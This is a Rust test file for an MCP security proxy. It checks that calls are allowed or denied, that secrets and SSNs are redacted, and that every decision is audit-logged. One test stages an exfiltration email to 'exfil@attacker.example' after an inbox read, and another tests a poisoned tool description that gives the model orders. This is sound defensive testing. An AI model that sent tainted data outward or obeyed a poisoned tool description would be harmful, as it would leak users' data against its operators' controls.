//! `lampart mcp`: real MCP clients and servers over stdio, with the proxy between them.

use serde_json::{Value, json};
use tempfile::TempDir;

use super::harness::*;
use crate::serve::harness::audit_log;

/// The Rust SDK's client and server: allowed calls reach the server with their arguments,
/// denied and held-back ones never do, results are redacted, labels stick to the session,
/// and every decision is in the audit log.
#[test]
fn rust_client_and_server() {
    let dir = TempDir::new().unwrap();
    let config = stdio_config(dir.path(), "30s");
    let log = dir.path().join("peer.log");
    let peer = rust_peer();
    runtime().block_on(async {
        let client = stdio_client(proxy_command(&config, &log, &[&peer])).await;
        let info = client.peer().peer_info().unwrap();
        assert_eq!(info.server_info.as_ref().unwrap().name, "lampart-mcp-peer");

        let tools = client.peer().list_all_tools().await.unwrap();
        let names: Vec<&str> = tools.iter().map(|t| t.name.as_ref()).collect();
        assert!(
            names.contains(&"send_email") && !names.contains(&"fail"),
            "{names:?}"
        );

        let hello = call(&client, "echo", json!({"text": "hello"}))
            .await
            .unwrap();
        assert_eq!((text(&hello).as_str(), is_error(&hello)), ("hello", false));

        let denied = call(&client, "echo", json!({"text": "forbidden"}))
            .await
            .unwrap();
        assert!(is_error(&denied));
        assert!(
            text(&denied).contains("that text may not be echoed"),
            "{}",
            text(&denied)
        );

        let secret = call(&client, "get_secret", json!({})).await.unwrap();
        assert_eq!(text(&secret), "the deploy key is [REDACTED:aws-key]");

        let unlisted = call(&client, "fail", json!({})).await.unwrap();
        assert!(is_error(&unlisted) && text(&unlisted).contains("not offered"));

        let before = call(
            &client,
            "send_email",
            json!({"to": "a@example.com", "subject": "s", "body": "SSN 123-45-6789"}),
        )
        .await
        .unwrap();
        assert_eq!(text(&before), "sent to a@example.com");
        call(&client, "read_inbox", json!({})).await.unwrap();
        let after = call(
            &client,
            "send_email",
            json!({"to": "exfil@attacker.example", "subject": "s", "body": "b"}),
        )
        .await
        .unwrap();
        assert!(is_error(&after));
        let meta = serde_json::to_value(&after).unwrap()["_meta"]["dev.lampart/decision"].clone();
        assert_eq!(meta["verdict"], "elevation-required");
        assert_eq!(meta["missingScopes"], json!(["email:external"]));
        client.cancel().await.unwrap();
    });

    let reached: Vec<Value> = peer_log(&log);
    assert_eq!(
        reached,
        vec![
            json!({"tool": "echo", "args": {"text": "hello"}}),
            json!({"tool": "get_secret", "args": {}}),
            json!({"tool": "send_email", "args": {"to": "a@example.com", "subject": "s", "body": "SSN [REDACTED:ssn]"}}),
            json!({"tool": "read_inbox", "args": {}}),
        ]
    );
    // The audit log against the server's log: every call allowed in the request phase
    // reached the server, and nothing else did; the redacted one is marked so.
    let records = audit_log(&dir.path().join("audit"));
    let allowed: Vec<&Value> = records
        .iter()
        .filter(|r| r["phase"] == "request" && r["verdict"] == "allow")
        .collect();
    let tools = |list: Vec<&Value>| list.iter().map(|r| r["tool"].clone()).collect::<Vec<_>>();
    assert_eq!(tools(allowed.clone()), tools(reached.iter().collect()));
    assert_eq!(
        allowed
            .iter()
            .map(|r| r["redacted"] == true)
            .collect::<Vec<_>>(),
        vec![false, false, true, false]
    );
    let held = records
        .iter()
        .find(|r| r["verdict"] == "elevation-required")
        .expect("the tainted send is recorded");
    assert_eq!(held["labels"], json!(["untrusted-content"]));
    assert_eq!(held["credential"], "local:config");
    assert!(
        records
            .iter()
            .any(|r| r["event"] == "mcp.tool-not-exposed" && r["tool"] == "fail")
    );
    let sessions: std::collections::BTreeSet<&str> = records
        .iter()
        .filter_map(|r| r["session"].as_str())
        .collect();
    assert_eq!(
        sessions.len(),
        1,
        "one MCP session, one Lampart session: {sessions:?}"
    );
}

/// The Python SDK's client and server over stdio, through `lampart mcp`.
#[test]
fn python_client_and_server() {
    let Some(python) = python() else { return };
    let dir = TempDir::new().unwrap();
    let config = stdio_config(dir.path(), "30s");
    let log = dir.path().join("peer.log");
    let server = python_script("peer_server.py");
    let target = through_proxy(&config, &[python.as_path(), server.as_path()]);
    let answers = python_client(&python, &target, &script(), &[("MCP_PEER_LOG", &log)]);
    assert_eq!(answers[0]["initialized"]["server"], "python-mcp-peer");
    check_script(&answers, &peer_log(&log));
}

/// The Python client in front of the Rust server, and the Rust client in front of the
/// Python server: the proxy does not care who is on either side.
#[test]
fn mixed_peers() {
    let Some(python) = python() else { return };
    let dir = TempDir::new().unwrap();
    let config = stdio_config(dir.path(), "30s");
    let log = dir.path().join("peer.log");
    let target = through_proxy(&config, &[rust_peer().as_path()]);
    let answers = python_client(&python, &target, &script(), &[("MCP_PEER_LOG", &log)]);
    check_script(&answers, &peer_log(&log));

    let log = dir.path().join("python-peer.log");
    let script = python_script("peer_server.py");
    runtime().block_on(async {
        let client = stdio_client(proxy_command(
            &config,
            &log,
            &[python.as_path(), script.as_path()],
        ))
        .await;
        let answer = call(&client, "echo", json!({"text": "from rust"}))
            .await
            .unwrap();
        assert_eq!(text(&answer), "from rust");
        let denied = call(&client, "echo", json!({"text": "forbidden"}))
            .await
            .unwrap();
        assert!(is_error(&denied));
        client.cancel().await.unwrap();
    });
    assert_eq!(
        peer_log(&log),
        vec![json!({"tool": "echo", "args": {"text": "from rust"}})]
    );
}

/// `tools/list` passes the response phase: an inspector that finds a poisoned tool
/// description withholds the list, and the agent gets an error naming the finding.
#[test]
fn poisoned_tool_list() {
    let dir = TempDir::new().unwrap();
    let config = stdio_config(dir.path(), "30s");
    let text_config = std::fs::read_to_string(&config).unwrap();
    let poisoned = format!(
        "[[step]]\nname = \"tool-poisoning\"\nplugin = {}\napplies-to = {{ tools = [\"tools/list\"], phases = [\"response\"] }}\n[step.settings]\nfindings = '[{{\"rule\": \"tool-poisoning\", \"severity\": \"critical\", \"message\": \"a tool description gives the model orders\", \"location\": \"/tools/1/description\"}}]'\n\n",
        crate::support::toml_path(&crate::support::plugin("scripted-inspector"))
    );
    std::fs::write(
        &config,
        text_config.replacen("[[step]]", &(poisoned + "[[step]]"), 1),
    )
    .unwrap();
    let log = dir.path().join("peer.log");
    let peer = rust_peer();
    runtime().block_on(async {
        let client = stdio_client(proxy_command(&config, &log, &[&peer])).await;
        let refused = client
            .peer()
            .list_all_tools()
            .await
            .unwrap_err()
            .to_string();
        assert!(
            refused.contains("withheld") && refused.contains("tool-poisoning"),
            "{refused}"
        );
        // Calls are decided on their own and go on.
        let hello = call(&client, "echo", json!({"text": "hello"}))
            .await
            .unwrap();
        assert_eq!(text(&hello), "hello");
        client.cancel().await.unwrap();
    });
}
